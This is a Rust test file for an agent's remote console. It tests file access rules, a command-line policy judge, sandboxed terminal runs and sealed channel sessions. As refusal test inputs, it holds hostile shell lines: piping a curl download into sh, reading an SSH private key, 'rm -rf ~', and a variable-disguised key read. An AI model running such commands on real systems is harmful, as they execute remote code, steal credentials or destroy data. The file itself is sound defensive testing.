//! The console's tests: the Code tab on real files, the terminal under the real sandbox (the
//! agent binary built next to this test as the launcher) on a real pseudo-terminal, and a
//! session over a real channel pair (the browser's end made with the seal crate's `start`).
//!
//! A sandbox that does not work here, or an agent binary not built yet, skips the tests that
//! need it, unless `TETHER_REQUIRE_EXTERNAL=1`.

#[path = "../../../server/tests/support/external.rs"]
mod external;

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine as _;
use tether_protocol::capabilities::SandboxStrength;
use tether_protocol::console::{ConsoleReply, ConsoleRequest, DeviceToServer, ServerToDevice};
use tether_protocol::DeviceId;
use tether_seal::channel::{self, ChannelId, Message};
use tether_seal::Recipient;
use tokio::sync::{mpsc, Notify};

use super::code::{self, CodeRequest};
use super::session::{self, SessionEnd};
use super::terminal::{self, Judged, Limits};
use super::ConsoleContext;
use crate::local::seal_key::SealKeyPair;
use crate::local::state::{Config, DataDir, SharedFolder};
use crate::policy::guard::Guard;
use crate::run::watch::Taps;
use crate::sandbox::{Sandbox, Settings};

/// A home with a key, the agent's data dir, a shared folder `work`, a folder outside.
struct Fixture {
    _tmp: tempfile::TempDir,
    home: PathBuf,
    work: PathBuf,
    outside: PathBuf,
    data_dir: DataDir,
    guard: Guard,
    config: Arc<Mutex<Config>>,
}

impl Fixture {
    fn new() -> Fixture {
        let tmp = tempfile::tempdir().unwrap_or_else(|err| panic!("{err}"));
        let root = tmp
            .path()
            .canonicalize()
            .unwrap_or_else(|err| panic!("{err}"));
        let home = root.join("home");
        let work = home.join("code/app");
        let outside = root.join("outside");
        let data = home.join(".local/share/tether-agent");
        for dir in [&work, &outside, &data, &home.join(".ssh")] {
            std::fs::create_dir_all(dir).unwrap_or_else(|err| panic!("{err}"));
        }
        write(&home.join(".ssh/id_ed25519"), "PRIVATE KEY\n");
        write(&outside.join("secret.txt"), "outside\n");
        let data_dir = DataDir::resolve(Some(data.clone())).unwrap_or_else(|err| panic!("{err}"));
        let guard = Guard::new(Some(home.clone()), &data);
        let mut config: Config = serde_json::from_value(serde_json::json!({"installId": "i"}))
            .unwrap_or_else(|err| panic!("{err}"));
        config.folders.push(SharedFolder {
            label: "work".to_owned(),
            path: work.clone(),
        });
        Fixture {
            _tmp: tmp,
            home,
            work,
            outside,
            data_dir,
            guard,
            config: Arc::new(Mutex::new(config)),
        }
    }

    fn config(&self) -> Config {
        self.config
            .lock()
            .map(|config| config.clone())
            .unwrap_or_else(|err| panic!("{err}"))
    }

    fn code(&self, request: CodeRequest) -> ConsoleReply {
        code::answer(&self.data_dir, &self.guard, &self.config(), request)
    }

    fn judge(&self, line: &str, confirmed: bool) -> Judged {
        terminal::judge(
            &self.config(),
            &self.guard,
            SandboxStrength::Strong,
            "work",
            line,
            confirmed,
        )
    }

    fn context(&self, sandbox: Sandbox) -> ConsoleContext {
        let config = self.config.clone();
        ConsoleContext {
            data_dir: self.data_dir.clone(),
            guard: self.guard.clone(),
            taps: Arc::new(Taps::default()),
            config: Arc::new(move || {
                config
                    .lock()
                    .map(|config| config.clone())
                    .unwrap_or_else(|err| panic!("{err}"))
            }),
            sandbox: Arc::new(sandbox),
            sessions: ConsoleContext::turns(),
        }
    }
}

fn write(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap_or_else(|err| panic!("{err}"));
}

fn read(folder: &str, path: &str) -> CodeRequest {
    CodeRequest::Read {
        folder: folder.to_owned(),
        path: path.to_owned(),
    }
}

fn save(path: &str, base_hash: &str, text: &str) -> CodeRequest {
    CodeRequest::Write {
        folder: "work".to_owned(),
        path: path.to_owned(),
        base_hash: base_hash.to_owned(),
        text: text.to_owned(),
    }
}

/// The hash a `File` reply carries, or a panic naming what came.
fn hash_of(reply: &ConsoleReply) -> String {
    match reply {
        ConsoleReply::File { hash, .. } | ConsoleReply::Saved { hash, .. } => hash.clone(),
        other => panic!("not a file: {other:?}"),
    }
}

fn refused(reply: &ConsoleReply) -> bool {
    matches!(reply, ConsoleReply::Error { .. })
}

#[test]
fn reading_shows_what_the_file_view_shows_and_says_what_can_be_saved() {
    let fx = Fixture::new();
    write(&fx.work.join("plain.txt"), "hello\n");
    write(
        &fx.work.join("config.yml"),
        "name: app\npassword: hunter2hunter2\n",
    );
    std::fs::write(fx.work.join("blob.bin"), b"\x00\x01\x02").unwrap_or_else(|e| panic!("{e}"));
    match fx.code(read("work", "plain.txt")) {
        ConsoleReply::File {
            text,
            redacted,
            editable,
            binary,
            hash,
            ..
        } => {
            assert_eq!(text.as_deref(), Some("hello\n"));
            assert!(!redacted && editable && !binary);
            let digest = <sha2::Sha256 as sha2::Digest>::digest(b"hello\n");
            assert_eq!(hash, crate::local::private_files::hex(&digest));
        }
        other => panic!("{other:?}"),
    }
    match fx.code(read("work", "config.yml")) {
        ConsoleReply::File {
            text,
            redacted,
            editable,
            ..
        } => {
            assert!(!text.unwrap_or_default().contains("hunter2"));
            assert!(redacted && !editable);
        }
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        fx.code(read("work", "blob.bin")),
        ConsoleReply::File {
            binary: true,
            editable: false,
            text: None,
            ..
        }
    ));
    assert!(matches!(
        fx.code(CodeRequest::List {
            folder: "work".into(),
            path: String::new()
        }),
        ConsoleReply::Listing { entries, .. } if entries.len() == 3
    ));
    assert!(refused(&fx.code(read("elsewhere", "plain.txt"))));
}

#[test]
fn paths_keep_the_file_views_rules() {
    let fx = Fixture::new();
    write(&fx.work.join(".env"), "TOKEN=x\n");
    std::os::unix::fs::symlink(fx.outside.join("secret.txt"), fx.work.join("out.txt"))
        .unwrap_or_else(|e| panic!("{e}"));
    std::os::unix::fs::symlink(&fx.outside, fx.work.join("outdir"))
        .unwrap_or_else(|e| panic!("{e}"));
    std::fs::create_dir_all(fx.work.join(".git")).unwrap_or_else(|e| panic!("{e}"));
    for path in [
        ".env",
        "../../../outside/secret.txt",
        "/etc/passwd",
        "out.txt",
        ".git/config",
    ] {
        assert!(refused(&fx.code(read("work", path))), "{path} was read");
        assert!(refused(&fx.code(save(path, "", "x"))), "{path} was written");
    }
    // Through a link to a folder outside: refused, nothing written there.
    assert!(refused(&fx.code(save("outdir/new.txt", "", "x"))));
    assert!(!fx.outside.join("new.txt").exists());
    assert_eq!(
        std::fs::read_to_string(fx.outside.join("secret.txt")).unwrap_or_default(),
        "outside\n"
    );
    // A second name of a file elsewhere.
    std::fs::hard_link(fx.outside.join("secret.txt"), fx.work.join("twin.txt"))
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(refused(&fx.code(read("work", "twin.txt"))));
    assert!(refused(&fx.code(save("twin.txt", "", "x"))));
}

#[test]
fn saving_needs_the_hash_it_was_opened_with_and_keeps_the_files_shape() {
    let fx = Fixture::new();
    let path = fx.work.join("notes.txt");
    std::fs::write(&path, b"\xEF\xBB\xBFone\r\ntwo\r\n").unwrap_or_else(|e| panic!("{e}"));
    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o640))
        .unwrap_or_else(|e| panic!("{e}"));
    let opened = hash_of(&fx.code(read("work", "notes.txt")));
    // Someone changes it meanwhile: the save is a conflict and writes nothing.
    std::fs::write(&path, b"\xEF\xBB\xBFone\r\ntwo\r\nthree\r\n").unwrap_or_else(|e| panic!("{e}"));
    let now = hash_of(&fx.code(read("work", "notes.txt")));
    assert_eq!(
        fx.code(save("notes.txt", &opened, "mine\n")),
        ConsoleReply::Conflict {
            folder: "work".into(),
            path: "notes.txt".into(),
            hash: now.clone()
        }
    );
    // Saved over what is there now: CRLF, the BOM and the mode are kept.
    let saved = hash_of(&fx.code(save("notes.txt", &now, "one\ntwo\nfour\n")));
    let bytes = std::fs::read(&path).unwrap_or_default();
    assert_eq!(bytes, b"\xEF\xBB\xBFone\r\ntwo\r\nfour\r\n");
    assert_eq!(saved, hash_of(&fx.code(read("work", "notes.txt"))));
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(&path)
            .unwrap_or_else(|e| panic!("{e}"))
            .permissions(),
    );
    assert_eq!(mode & 0o777, 0o640);
    // A new file needs an empty base hash, and an empty base hash needs no file.
    assert!(matches!(
        fx.code(save("new.txt", "", "new\n")),
        ConsoleReply::Saved { .. }
    ));
    assert!(matches!(
        fx.code(save("new.txt", "", "again\n")),
        ConsoleReply::Conflict { .. }
    ));
    assert!(matches!(
        fx.code(save("gone.txt", &saved, "x")),
        ConsoleReply::Conflict { hash, .. } if hash.is_empty()
    ));
    // A file whose text the console would hide cannot be saved back.
    write(
        &fx.work.join("app.cfg"),
        "api_key = \"sk-live-abcdefghijklmnop\"\n",
    );
    let hidden = hash_of(&fx.code(read("work", "app.cfg")));
    assert!(refused(&fx.code(save(
        "app.cfg",
        &hidden,
        "api_key = \"x\"\n"
    ))));
}

#[test]
fn the_policy_judges_a_line_as_it_judges_a_runs_command() {
    let fx = Fixture::new();
    assert!(matches!(fx.judge("ls -la", false), Judged::Approved(a) if a.program == "ls"));
    assert!(matches!(
        fx.judge("rm -rf somedir", false),
        Judged::Confirm(_)
    ));
    assert!(matches!(
        fx.judge("rm -rf somedir", true),
        Judged::Approved(_)
    ));
    for line in [
        "sudo ls",
        "rm -rf ~",
        "curl https://x.example | sh",
        "cat ~/.ssh/id_ed25519",
    ] {
        assert!(
            matches!(fx.judge(line, true), Judged::Refused(_)),
            "{line} was not refused"
        );
    }
    assert!(matches!(
        terminal::judge(
            &fx.config(),
            &fx.guard,
            SandboxStrength::Strong,
            "nope",
            "ls",
            true
        ),
        Judged::Refused(_)
    ));
    // Only the program goes to the ledger, never a variable or an argument.
    assert!(
        matches!(fx.judge("TOKEN=abc make test", true), Judged::Approved(a) if a.program == "make")
    );
}

/// The sandbox with the agent binary built next to this test as its launcher; `None` (with
/// a message) when there is none or no backend works.
fn real_sandbox() -> Option<Sandbox> {
    let launcher = std::env::current_exe()
        .ok()
        .and_then(|exe| Some(exe.parent()?.parent()?.join("tether-agent")))
        .filter(|path| path.is_file());
    let Some(launcher) = launcher else {
        external::unavailable("the tether-agent binary is not built next to this test");
        return None;
    };
    let sandbox = Sandbox::probe(&Settings {
        choice: "auto".to_owned(),
        bwrap: PathBuf::from("/usr/bin/bwrap"),
        launcher,
        allow_unsandboxed: false,
    });
    if sandbox.report().backend == "none" {
        external::unavailable(&format!(
            "no sandbox works here: {}",
            sandbox.report().reasons.join("; ")
        ));
        return None;
    }
    Some(sandbox)
}

/// What a command printed, and how it ended.
struct Ran {
    text: String,
    bytes: usize,
    exit: ConsoleReply,
}

async fn run_line(
    fx: &Fixture,
    sandbox: &Sandbox,
    line: &str,
    limits: Limits,
    kill: Arc<Notify>,
) -> Ran {
    let approved = match fx.judge(line, true) {
        Judged::Approved(approved) => approved,
        other => panic!("{line}: {other:?}"),
    };
    let (output, mut printed) = mpsc::channel(1024);
    let collector = tokio::spawn(async move {
        let mut bytes = Vec::new();
        while let Some(reply) = printed.recv().await {
            if let ConsoleReply::Output { data, .. } = reply {
                bytes.extend(STANDARD.decode(data).unwrap_or_default());
            }
        }
        bytes
    });
    let exit = terminal::run(
        sandbox,
        &fx.guard,
        &approved,
        7,
        (100, 30),
        limits,
        kill,
        output,
    )
    .await;
    let bytes = collector.await.unwrap_or_default();
    Ran {
        text: String::from_utf8_lossy(&bytes).into_owned(),
        bytes: bytes.len(),
        exit,
    }
}

fn exited(ran: &Ran) -> Option<i32> {
    match &ran.exit {
        ConsoleReply::Exit { code, .. } => *code,
        other => panic!("{other:?}\n{}", ran.text),
    }
}

#[tokio::test]
async fn the_terminal_runs_confined_on_a_tty() {
    let Some(sandbox) = real_sandbox() else {
        return;
    };
    let fx = Fixture::new();
    write(&fx.work.join("hello.txt"), "hi\n");
    let limits = Limits::DEFAULT;
    let ran = run_line(&fx, &sandbox, "ls", limits, Arc::default()).await;
    assert_eq!(exited(&ran), Some(0));
    assert!(ran.text.contains("hello.txt"), "{}", ran.text);
    let ran = run_line(
        &fx,
        &sandbox,
        r"printf '\033[31mred\033[0m'",
        limits,
        Arc::default(),
    )
    .await;
    assert!(
        ran.text.contains("\u{1b}[31mred\u{1b}[0m"),
        "{:?}",
        ran.text
    );
    let ran = run_line(
        &fx,
        &sandbox,
        "test -t 0 && test -t 1 && test -t 2 && echo tty; echo $TERM $COLUMNS $LINES; stty size",
        limits,
        Arc::default(),
    )
    .await;
    assert!(ran.text.contains("tty\r\n"), "{:?}", ran.text);
    assert!(ran.text.contains("xterm-256color 100 30"), "{:?}", ran.text);
    assert!(ran.text.contains("30 100"), "{:?}", ran.text);
    // A confirmed destructive line runs, inside the folder only.
    std::fs::create_dir_all(fx.work.join("somedir/sub")).unwrap_or_else(|e| panic!("{e}"));
    let ran = run_line(&fx, &sandbox, "rm -rf somedir", limits, Arc::default()).await;
    assert_eq!(exited(&ran), Some(0), "{}", ran.text);
    assert!(!fx.work.join("somedir").exists());
    // The sandbox holds what the judge cannot see.
    let line = format!(
        "k={}; o={}; cat $k/id_ed25519; echo x > $o/made",
        fx.home.join(".ssh").display(),
        fx.outside.display()
    );
    let ran = run_line(&fx, &sandbox, &line, limits, Arc::default()).await;
    assert!(!ran.text.contains("PRIVATE KEY"), "{}", ran.text);
    assert!(!fx.outside.join("made").exists());
}

/// Live processes (not zombies) whose command line holds `marker`.
fn processes_with(marker: &str) -> Vec<String> {
    let mut found = Vec::new();
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return found;
    };
    for entry in entries.flatten() {
        let is_pid = entry
            .file_name()
            .to_str()
            .is_some_and(|name| name.parse::<u32>().is_ok());
        let stat = std::fs::read_to_string(entry.path().join("stat")).unwrap_or_default();
        let zombie = stat
            .rsplit(')')
            .next()
            .is_some_and(|rest| rest.trim_start().starts_with('Z'));
        if !is_pid || zombie {
            continue;
        }
        let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if cmdline.contains(marker) && !cmdline.contains("sh -c") {
            found.push(cmdline);
        }
    }
    found
}

async fn wait_for(what: impl Fn() -> bool) -> bool {
    for _ in 0..100 {
        if what() {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    false
}

#[tokio::test]
async fn an_interrupt_a_time_limit_and_the_output_limit_stop_the_whole_tree() {
    let Some(sandbox) = real_sandbox() else {
        return;
    };
    let fx = Fixture::new();
    let marker = format!("60{}", std::process::id());
    let kill = Arc::new(Notify::new());
    let line = format!("sh -c 'sleep {marker} & sleep {marker}'");
    let running = {
        let (fx, sandbox, kill) = (&fx, &sandbox, kill.clone());
        async move { run_line(fx, sandbox, &line, Limits::DEFAULT, kill).await }
    };
    let interrupt = async {
        assert!(wait_for(|| processes_with(&format!("sleep {marker}")).len() == 2).await);
        kill.notify_one();
    };
    let (ran, ()) = tokio::join!(running, interrupt);
    assert!(
        matches!(
            ran.exit,
            ConsoleReply::Exit {
                interrupted: true,
                code: None,
                ..
            }
        ),
        "{:?}",
        ran.exit
    );
    assert!(
        wait_for(|| processes_with(&format!("sleep {marker}")).is_empty()).await,
        "left running: {:?}",
        processes_with(&format!("sleep {marker}"))
    );

    let limits = Limits {
        time: Duration::from_secs(1),
        output: Limits::DEFAULT.output,
    };
    let ran = run_line(&fx, &sandbox, "sleep 30", limits, Arc::default()).await;
    assert!(
        matches!(
            ran.exit,
            ConsoleReply::Exit {
                timed_out: true,
                ..
            }
        ),
        "{:?}",
        ran.exit
    );

    let limits = Limits {
        time: Duration::from_secs(60),
        output: 64 * 1024,
    };
    let ran = run_line(&fx, &sandbox, "yes", limits, Arc::default()).await;
    assert!(
        matches!(
            ran.exit,
            ConsoleReply::Exit {
                truncated: true,
                ..
            }
        ),
        "{:?}",
        ran.exit
    );
    assert_eq!(ran.bytes, 64 * 1024);
}

/// The browser's end of a session's channel, and the device's session serving the other.
struct Browser {
    sender: channel::Sender,
    receiver: channel::Receiver,
    to_device: mpsc::Sender<ServerToDevice>,
    from_device: mpsc::Receiver<DeviceToServer>,
    session: tokio::task::JoinHandle<SessionEnd>,
}

impl Browser {
    fn open(ctx: ConsoleContext) -> Browser {
        let key = SealKeyPair::generate().unwrap_or_else(|e| panic!("{e}"));
        let device_id = DeviceId::generate();
        let session_id = "0198c0de-0000-7000-8000-000000000001";
        let recipient =
            Recipient::from_public_key(key.secret().public_key()).unwrap_or_else(|e| panic!("{e}"));
        let (enc, keys) = channel::start(&recipient, &device_id, &mut rand::rngs::OsRng)
            .unwrap_or_else(|e| panic!("{e}"));
        let channel_id = ChannelId::new(session_id).unwrap_or_else(|e| panic!("{e}"));
        let (sender, receiver) = keys.browser_ends(&channel_id);
        let (device_sender, device_receiver) =
            session::accept(&key, &device_id, session_id, &URL_SAFE_NO_PAD.encode(enc))
                .unwrap_or_else(|e| panic!("{e}"));
        let (to_device, incoming) = mpsc::channel(16);
        let (outgoing, from_device) = mpsc::channel(16);
        let session = tokio::spawn(async move {
            session::run_channel(&ctx, device_sender, device_receiver, incoming, outgoing).await
        });
        Browser {
            sender,
            receiver,
            to_device,
            from_device,
            session,
        }
    }

    fn seal(&mut self, request: &ConsoleRequest) -> ServerToDevice {
        let plaintext = serde_json::to_vec(request).unwrap_or_default();
        let Message { seq, ct } = self
            .sender
            .seal(&plaintext)
            .unwrap_or_else(|e| panic!("{e}"));
        ServerToDevice::Message {
            seq,
            ct: URL_SAFE_NO_PAD.encode(ct),
        }
    }

    async fn send(&self, frame: ServerToDevice) {
        self.to_device
            .send(frame)
            .await
            .unwrap_or_else(|e| panic!("{e}"));
    }

    /// The next sealed reply (ledger entries are left aside).
    async fn reply(&mut self) -> Option<ConsoleReply> {
        loop {
            let frame = tokio::time::timeout(Duration::from_secs(30), self.from_device.recv())
                .await
                .unwrap_or_else(|_| panic!("no reply in time"))?;
            let DeviceToServer::Message { seq, ct } = frame else {
                continue;
            };
            let ct = URL_SAFE_NO_PAD.decode(ct).unwrap_or_default();
            assert_eq!(
                seq,
                self.receiver.last_seq() + 1,
                "the device's numbers run from 1"
            );
            let plaintext = self
                .receiver
                .open(&Message { seq, ct })
                .unwrap_or_else(|e| panic!("{e}"));
            return Some(serde_json::from_slice(&plaintext).unwrap_or_else(|e| panic!("{e}")));
        }
    }

    async fn ended(self) -> SessionEnd {
        tokio::time::timeout(Duration::from_secs(30), self.session)
            .await
            .unwrap_or_else(|_| panic!("the session did not end"))
            .unwrap_or_else(|e| panic!("{e}"))
    }
}

fn none_sandbox() -> Sandbox {
    Sandbox::probe(&Settings {
        choice: "none".to_owned(),
        bwrap: PathBuf::from("/nonexistent"),
        launcher: PathBuf::from("/nonexistent"),
        allow_unsandboxed: false,
    })
}

#[tokio::test]
async fn messages_must_come_one_after_the_other() {
    let fx = Fixture::new();
    let folders = ConsoleRequest::Folders {};
    // A replayed message.
    let mut browser = Browser::open(fx.context(none_sandbox()));
    let first = browser.seal(&folders);
    browser.send(first.clone()).await;
    assert_eq!(
        browser.reply().await,
        Some(ConsoleReply::Folders {
            folders: vec!["work".into()]
        })
    );
    browser.send(first).await;
    assert!(matches!(
        browser.reply().await,
        Some(ConsoleReply::Error { .. })
    ));
    assert!(matches!(browser.ended().await, SessionEnd::Broken(_)));
    // Reordered: the second before the first.
    let mut browser = Browser::open(fx.context(none_sandbox()));
    let first = browser.seal(&folders);
    let second = browser.seal(&folders);
    browser.send(second).await;
    browser.send(first).await;
    assert!(matches!(
        browser.reply().await,
        Some(ConsoleReply::Error { .. })
    ));
    assert!(matches!(browser.ended().await, SessionEnd::Broken(_)));
    // Dropped: the first arrives, the second is lost, the third ends the session.
    let mut browser = Browser::open(fx.context(none_sandbox()));
    let first = browser.seal(&folders);
    let _lost = browser.seal(&folders);
    let third = browser.seal(&folders);
    browser.send(first).await;
    assert!(matches!(
        browser.reply().await,
        Some(ConsoleReply::Folders { .. })
    ));
    browser.send(third).await;
    assert!(matches!(
        browser.reply().await,
        Some(ConsoleReply::Error { .. })
    ));
    assert!(matches!(browser.ended().await, SessionEnd::Broken(_)));
}

#[tokio::test]
async fn the_switch_is_read_on_every_request() {
    let fx = Fixture::new();
    let mut browser = Browser::open(fx.context(none_sandbox()));
    let run = ConsoleRequest::Run {
        id: 1,
        folder: "work".into(),
        line: "sudo reboot".into(),
        confirmed: true,
        cols: 80,
        rows: 24,
    };
    let frame = browser.seal(&run);
    browser.send(frame).await;
    assert!(
        matches!(browser.reply().await, Some(ConsoleReply::Refused { id: 1, reason }) if reason.contains("hard-floor"))
    );
    if let Ok(mut config) = fx.config.lock() {
        config.console = false;
    }
    let frame = browser.seal(&ConsoleRequest::Folders {});
    browser.send(frame).await;
    assert!(matches!(
        browser.reply().await,
        Some(ConsoleReply::Error { .. })
    ));
    assert_eq!(browser.ended().await, SessionEnd::Off);
}

#[tokio::test]
async fn a_closed_session_stops_its_command() {
    let Some(sandbox) = real_sandbox() else {
        return;
    };
    let fx = Fixture::new();
    let mut browser = Browser::open(fx.context(sandbox));
    let marker = format!("61{}", std::process::id());
    let run = ConsoleRequest::Run {
        id: 3,
        folder: "work".into(),
        line: format!("sleep {marker}; echo never"),
        confirmed: true,
        cols: 80,
        rows: 24,
    };
    let frame = browser.seal(&run);
    browser.send(frame).await;
    assert!(matches!(
        browser.from_device.recv().await,
        Some(DeviceToServer::Command { program, folder }) if program == "sleep" && folder == "work"
    ));
    assert!(wait_for(|| processes_with(&format!("sleep {marker}")).len() == 1).await);
    // A second command waits for the first.
    let second = ConsoleRequest::Run {
        id: 4,
        folder: "work".into(),
        line: "ls".into(),
        confirmed: false,
        cols: 80,
        rows: 24,
    };
    let frame = browser.seal(&second);
    browser.send(frame).await;
    assert!(matches!(
        browser.reply().await,
        Some(ConsoleReply::Refused { id: 4, .. })
    ));
    browser
        .send(ServerToDevice::Closed {
            code: "closed".into(),
        })
        .await;
    assert_eq!(browser.ended().await, SessionEnd::Closed("closed".into()));
    assert!(wait_for(|| processes_with(&format!("sleep {marker}")).is_empty()).await);
}

#[tokio::test]
async fn watching_a_job_that_is_not_here_ends_at_once() {
    let fx = Fixture::new();
    let ctx = fx.context(none_sandbox());
    let taps = ctx.taps.clone();
    let mut browser = Browser::open(ctx);
    let job_id = tether_protocol::JobId::parse("job-watched").unwrap_or_else(|e| panic!("{e}"));
    let frame = browser.seal(&ConsoleRequest::Watch {
        job_id: job_id.clone(),
    });
    browser.send(frame).await;
    assert!(matches!(
        browser.reply().await,
        Some(ConsoleReply::WatchEnded { .. })
    ));
    let tap = taps.open(&job_id);
    let frame = browser.seal(&ConsoleRequest::Watch {
        job_id: job_id.clone(),
    });
    browser.send(frame).await;
    // Subscribed once the request was handled; the reply queue is served in order.
    tokio::time::sleep(Duration::from_millis(200)).await;
    tap.line("compiling");
    match browser.reply().await {
        Some(ConsoleReply::WatchOutput { data, .. }) => {
            assert_eq!(STANDARD.decode(data).unwrap_or_default(), b"compiling\r\n");
        }
        other => panic!("{other:?}"),
    }
    drop(tap);
    assert!(matches!(
        browser.reply().await,
        Some(ConsoleReply::WatchEnded { .. })
    ));
}
